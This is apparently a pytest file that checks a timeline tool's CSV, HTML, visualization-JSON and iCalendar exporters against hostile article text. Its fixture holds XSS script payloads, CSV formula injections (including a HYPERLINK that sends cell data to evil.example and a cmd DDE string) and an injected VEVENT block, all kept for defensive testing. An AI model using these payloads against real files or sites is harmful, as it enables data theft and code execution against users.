"""Article text that attacks its readers, through a real extraction into every export format
(issue 7, part 2): inert in HTML, TimelineJS and vis (all render text as HTML), neutralized in
CSV (formula injection), escaped and folded correctly in iCalendar."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from html.parser import HTMLParser

import icalendar
import pytest
from ical.calendar_stream import IcsCalendarStream

from timeline import exporters, extract
from timeline.exporters import ExportOptions
from timeline.models import Timeline

HOSTILE = (
    '<script>alert("headline")</script> Raid, in Sirte; Libya: a report.\n\n'
    'Officials said <script>alert("x")</script> the raid began on Feb. 3, 2017 in Sirte, Libya; '
    '=HYPERLINK("http://evil.example/?"&A1,"click") was posted.\r\n'
    '=HYPERLINK("http://evil.example","Click") Rebels attacked Tripoli on Feb. 4, 2017.\r\n'
    'On Feb. 6, 2017, "Acme, Inc." said -2+3 @SUM(A1) profits fell, and rebels\rattacked Tripoli.\n'
    "+cmd|' /C calc'!A0 on Feb. 8, 2017 the army withdrew from the <b onmouseover=alert(1)>city</b>.\n"
    "The mayor resigned on Feb. 9, 2017.\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\n"
    "@ONE, two; three\\four: the vote took place on Feb. 7, 2017 after a very long debate "
    "about the budget of the city and its schools, hospitals and roads, lasting long into the night.\n"
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def timeline() -> Timeline:
    found = extract(HOSTILE, reference_date=date(2017, 2, 10))
    assert len(found.events) >= 5, found.events
    return found


def render(timeline: Timeline, name: str) -> bytes:
    return exporters.get(name).export(timeline, ExportOptions())


def test_every_exporter_accepts_the_hostile_timeline(timeline: Timeline) -> None:
    for name in exporters.names():
        assert render(timeline, name)


def test_json_keeps_the_text_exactly(timeline: Timeline) -> None:
    data = json.loads(render(timeline, "json"))
    for event in data["events"]:
        for mention in event["mentions"]:
            assert HOSTILE[mention["start"] : mention["end"]] == mention["text"]


@pytest.mark.parametrize("name", ["csv", "timelinejs-csv"])
def test_csv_cells_are_never_formulas(timeline: Timeline, name: str) -> None:
    data = render(timeline, name)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1, "ragged rows: a comma or line break escaped quoting"
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA)], "formula injection"
    assert any(cell.startswith("'=HYPERLINK") or "=HYPERLINK" in cell for cell in cells)
    # Records end with CRLF (RFC 4180); line breaks inside quoted cells are the text's own.
    assert data.endswith(b"\r\n")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.script_text.append(data)


def test_html_page_shows_the_text_as_text(timeline: Timeline) -> None:
    page = render(timeline, "html").decode("utf-8")
    parser = _Elements()
    parser.feed(page)
    assert not [t for t, _ in parser.tags if t == "b"], "article markup became page markup"
    handlers = [(t, a) for t, attrs in parser.tags for a, _ in attrs if a.startswith("on")]
    assert not handlers, handlers
    assert not [s for s in parser.script_text if "alert(" in s], "article script became page script"
    assert "&lt;script&gt;" in page or "\\u003cscript" in page  # shown, escaped


@pytest.mark.parametrize("name", ["timelinejs", "vis"])
def test_visualization_json_holds_no_live_markup(timeline: Timeline, name: str) -> None:
    """TimelineJS and vis insert these strings as HTML: article text must arrive escaped."""
    data = json.loads(render(timeline, name))
    strings: list[str] = []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)
        elif isinstance(node, str):
            strings.append(node)

    walk(data)
    for value in strings:
        parser = _Elements()
        parser.feed(value)
        assert "script" not in [t for t, _ in parser.tags], value
        assert not [a for _, attrs in parser.tags for a, _ in attrs if a.startswith("on")], value
    assert any("&lt;script&gt;" in value for value in strings)  # the text is there, escaped


def test_ics_lines_are_crlf_folded_at_75_octets_and_escaped(timeline: Timeline) -> None:
    data = render(timeline, "ics")
    assert data.endswith(b"\r\n")
    body = data[:-2]
    for line in body.split(b"\r\n"):
        assert b"\r" not in line and b"\n" not in line, "bare CR or LF inside a content line"
        assert len(line) <= 75, (len(line), line)
        line.decode("utf-8")  # folding never splits a UTF-8 sequence
    unfolded = re.sub(rb"\r\n[ \t]", b"", data).decode("utf-8").split("\r\n")
    # The text's "END:VEVENT / BEGIN:VEVENT" stays inside a value: one VEVENT per dated event.
    resolved = [e for e in timeline.events if e.date.resolved]
    assert sum(line == "BEGIN:VEVENT" for line in unfolded) == len(resolved)
    assert not [line for line in unfolded if line.startswith("SUMMARY:injected")]
    # TEXT values escape backslash, semicolon and comma (RFC 5545 3.3.11).
    for line in unfolded:
        if line.startswith(("SUMMARY", "DESCRIPTION", "LOCATION")):
            value = line.split(":", 1)[1]
            assert not re.search(r"(?<!\\)(\\\\)*[;,]", value), line
    calendar = icalendar.Calendar.from_ical(data)
    assert not calendar.errors
    events = list(calendar.walk("VEVENT"))
    assert len(events) == len(resolved)
    descriptions = " ".join(str(e.get("DESCRIPTION")) for e in events)
    assert "Acme, Inc." in descriptions and "@ONE, two; three\\four" in descriptions
    IcsCalendarStream.calendar_from_ics(data.decode("utf-8"))  # strict second parser: raises if invalid
